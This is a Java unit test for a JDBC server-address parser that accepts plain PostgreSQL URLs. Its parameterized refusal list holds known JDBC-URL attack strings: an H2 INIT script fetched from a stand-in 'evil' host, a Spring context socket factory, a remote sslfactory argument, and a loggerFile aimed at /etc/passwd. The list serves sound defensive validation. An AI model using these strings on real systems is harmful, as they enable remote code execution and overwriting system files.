package scot.cswo.assurance.store;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import scot.cswo.assurance.domain.problem.InvalidDataException;
import scot.cswo.assurance.domain.problem.Problem;
import scot.cswo.assurance.service.ConnectionField;

class ServerAddressTest {

    @Test
    void aPostgresAddressIsReadWithTheUsualPortByDefault() {
        ServerAddress address = ServerAddress.parse(" jdbc:postgresql://sql01.council.local/cswo ", ConnectionField.SERVER_ADDRESS);

        assertThat(address.jdbcUrl()).isEqualTo("jdbc:postgresql://sql01.council.local:5432/cswo");
        assertThat(address.describe()).isEqualTo("database cswo on sql01.council.local:5432");
    }

    @Test
    void safeConnectionSettingsAreKeptWithTheDriversSpelling() {
        ServerAddress address = ServerAddress.parse("jdbc:postgresql://10.1.2.3:6432/cswo?sslmode=require"
                + "&connecttimeout=10&ApplicationName=CSWO", ConnectionField.SERVER_ADDRESS);

        assertThat(address.jdbcUrl()).isEqualTo("jdbc:postgresql://10.1.2.3:6432/cswo?ApplicationName=CSWO"
                + "&connectTimeout=10&sslmode=require");
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "jdbc:h2:file:/tmp/x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
        "jdbc:h2:mem:x",
        "jdbc:postgresql://host/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
        "jdbc:postgresql://host/db?sslfactory=x.Y&sslfactoryarg=http://evil",
        "jdbc:postgresql://host/db?loggerFile=/etc/passwd",
        "jdbc:postgresql://host/db?authenticationPluginClassName=x.Y",
        "jdbc:postgresql://host/db;other=1",
        "jdbc:postgresql://host:99999/db",
        "jdbc:postgresql://host/db?sslmode=maybe",
        "jdbc:postgresql://host1,host2/db",
        "jdbc:mysql://host/db",
        "",
    })
    void anythingButAPlainPostgresAddressIsRefusedNamingTheField(String url) {
        assertThatThrownBy(() -> ServerAddress.parse(url, ConnectionField.SERVER_ADDRESS)).isInstanceOfSatisfying(InvalidDataException.class,
                e -> assertThat(e.problems()).singleElement().extracting(Problem::field)
                        .isEqualTo(ConnectionField.SERVER_ADDRESS));
    }
}
